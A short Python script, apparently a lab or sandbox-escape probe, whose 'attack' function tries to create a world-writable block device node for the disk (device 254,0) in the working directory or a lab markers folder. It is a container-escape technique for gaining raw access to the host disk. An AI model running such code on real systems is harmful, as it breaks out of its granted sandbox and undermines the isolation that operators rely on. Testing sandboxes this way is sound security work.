"""Makes a device of its own for the disk."""

import os
import stat


def attack():
    for place in (".", "/tmp/lab/markers"):
        try:
            os.mknod(f"{place}/disk", stat.S_IFBLK | 0o666, os.makedev(254, 0))
            return True
        except OSError:
            continue
    return False
